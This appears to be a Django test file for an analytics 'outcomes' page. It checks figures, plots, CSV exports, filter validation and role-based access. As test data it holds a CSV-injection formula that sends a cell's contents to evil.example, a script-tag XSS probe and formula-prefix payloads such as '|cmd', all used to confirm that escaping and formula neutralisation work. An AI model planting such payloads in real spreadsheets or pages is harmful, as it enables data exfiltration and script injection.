"""The outcomes page: figures that lead to conversations, plots, CSV, and who may see them."""

import csv
import io
import re
from html import unescape
from uuid import uuid4

import pytest
from django.test import Client

from accounts.models import Role
from accounts.scope import workspace_scope
from console.csvs import safe
from console.tests.pages import BASE, log_in, member
from learning.models import ConversationDay, ReviewProgress
from learning.tests.auditing import say
from learning.tests.outcomes import answered, by_large_model, replied, review, verdict
from outbox.models import OutboxJob
from tests.cast import Cast

pytestmark = pytest.mark.usefixtures("weighing")
OUTCOMES = f"{BASE}outcomes/"
LIST = f"{OUTCOMES}conversations/"
EVIL = '=HYPERLINK("https://evil.example?"&A1)'


@pytest.fixture
def shop(cast: Cast) -> Cast:
    verdict(cast, answered(cast), "helped")
    answered(cast)
    replied(cast, text=EVIL)
    by_large_model(cast, "Does it float?")
    review(cast)
    return cast


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_an_analyst_sees_figures_plots_and_tables(client: Client, shop: Cast) -> None:
    page = log_in(client, member(shop, Role.ANALYST)).get(OUTCOMES)
    assert page.status_code == 200
    assert page.text.count('<svg class="plot"') == 3 and page.text.count("<rect") == 3
    assert "4 conversations." in page.text and "confirmed by the visitor or an auditor" in page.text
    assert "the one answer of the large model" in page.text and "$0.08" in page.text
    assert "no large model is set up" in page.text
    assert "style=" not in page.text.replace("stylesheet", "")


def test_every_figure_leads_to_as_many_conversations(client: Client, shop: Cast) -> None:
    log_in(client, shop.alice)
    page = client.get(OUTCOMES).text
    found = re.findall(
        r'href="([^"]+/conversations/\?[^"]+)"><span><span class="figure">(\d+)', page
    )
    assert len(found) == 11
    for path, count in found:
        rows = client.get(unescape(path)).text.count('<td class="detail">')
        assert rows == int(count), path


def test_a_conversation_is_read_without_the_desk(client: Client, shop: Cast) -> None:
    log_in(client, member(shop, Role.ANALYST))
    page = client.get(f"{LIST}?tier=3").text
    (path,) = re.findall(r'<td class="detail"><a href="([^"]+)"', page)
    read = client.get(path).text
    assert "Giraffes may be returned." in read and "HYPERLINK" in read
    assert "/desk/acme/#" not in read  # not for this role
    assert "/desk/acme/#" in log_in(client, shop.alice).get(path).text


def test_what_people_wrote_is_no_html_and_no_formula(client: Client, shop: Cast) -> None:
    say(shop, shop.vera, "<script>alert(1)</script>")
    review(shop)
    log_in(client, shop.alice)
    page = client.get(LIST).text
    assert "<script>alert" not in page and "&lt;script&gt;" in page
    answer = client.get(f"{OUTCOMES}conversations.csv")
    assert answer["Content-Disposition"] == 'attachment; filename="conversations.csv"'
    rows = table(answer.text)
    assert len(rows) == 6 and f"'{EVIL}" in [row[3] for row in rows]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "  =1", "|cmd", "＝1"])
def test_a_cell_never_begins_as_a_formula(text: str) -> None:
    assert safe(text) == f"'{text}"
    assert safe(-1.5) == -1.5 and safe("a=1") == "a=1"


@pytest.mark.parametrize("name", ["days", "languages", "articles", "reasons"])
def test_tables_are_exported(client: Client, shop: Cast, name: str) -> None:
    log_in(client, shop.alice)
    head, *rows = table(client.get(f"{OUTCOMES}export/{name}.csv").text)
    assert rows and all(len(row) == len(head) for row in rows)
    if name != "reasons":
        assert sum(int(row[head.index("conversations")]) for row in rows) == 4


def test_the_page_asks_for_what_changed_to_be_counted(client: Client, cast: Cast) -> None:
    answered(cast)
    log_in(client, cast.alice)
    assert "counted for the first time" in client.get(OUTCOMES).text
    client.get(OUTCOMES)
    with workspace_scope(cast.workspace.id):
        assert OutboxJob.objects.filter(kind="review_conversations").count() == 1
    review(cast)
    assert "As of" in client.get(OUTCOMES).text


@pytest.mark.parametrize(
    ("given", "said"),
    [
        ("first=2026-02-30", "Enter a valid date"),
        ("first=2026-02-02&last=2026-02-01", "The last day is before the first."),
        ("first=2020-01-01&last=2026-02-01", "At most 366 days at once."),
        ("language=%00", "Null characters are not allowed"),
        ("language=e", "Enter a valid value"),
        ("article=x", "Enter a valid UUID"),
    ],
)
def test_a_bad_filter_is_explained_and_kept(
    client: Client, cast: Cast, given: str, said: str
) -> None:
    log_in(client, cast.alice)
    for path in (OUTCOMES, LIST, f"{OUTCOMES}conversations.csv", f"{OUTCOMES}export/days.csv"):
        page = client.get(f"{path}?{given}")
        assert page.status_code == 400 and said in page.text, path
    if "2026-02-02" in given:
        assert 'value="2026-02-02"' in client.get(f"{OUTCOMES}?{given}").text


@pytest.mark.parametrize("given", ["tier=9", "said=x", "escalated=A'", "before=x", "before=2026,x"])
def test_a_bad_figure_is_refused(client: Client, cast: Cast, given: str) -> None:
    log_in(client, cast.alice)
    assert client.get(f"{LIST}?{given}").status_code == 400


def test_others_see_nothing_and_ask_for_nothing(client: Client, shop: Cast) -> None:
    with workspace_scope(shop.workspace.id):
        conversation_id = ConversationDay.objects.values_list("conversation_id", flat=True)[0]
        before = OutboxJob.objects.count()
    paths = [OUTCOMES, LIST, f"{LIST}{conversation_id}/", f"{OUTCOMES}conversations.csv",
             f"{OUTCOMES}export/days.csv"]  # fmt: skip
    for who, status in ((shop.bob, 403), (member(shop, Role.EDITOR), 403), (shop.charlie, 404)):
        log_in(client, who)
        assert {client.get(path).status_code for path in paths} == {status}
    foreign = f"/console/other/outcomes/conversations/{conversation_id}/"
    assert client.get(foreign).status_code == 404  # charlie's own workspace has no such one
    client.logout()
    assert {client.get(path).status_code for path in paths} == {302}
    with workspace_scope(shop.workspace.id):
        assert OutboxJob.objects.count() == before


def test_what_is_not_there_is_not_found(client: Client, cast: Cast) -> None:
    log_in(client, cast.alice)
    assert client.get(f"{LIST}{uuid4()}/").status_code == 404
    assert client.get(f"{OUTCOMES}export/secrets.csv").status_code == 404
    assert client.post(OUTCOMES).status_code == 405
    with workspace_scope(cast.workspace.id):
        assert not ReviewProgress.objects.exists()
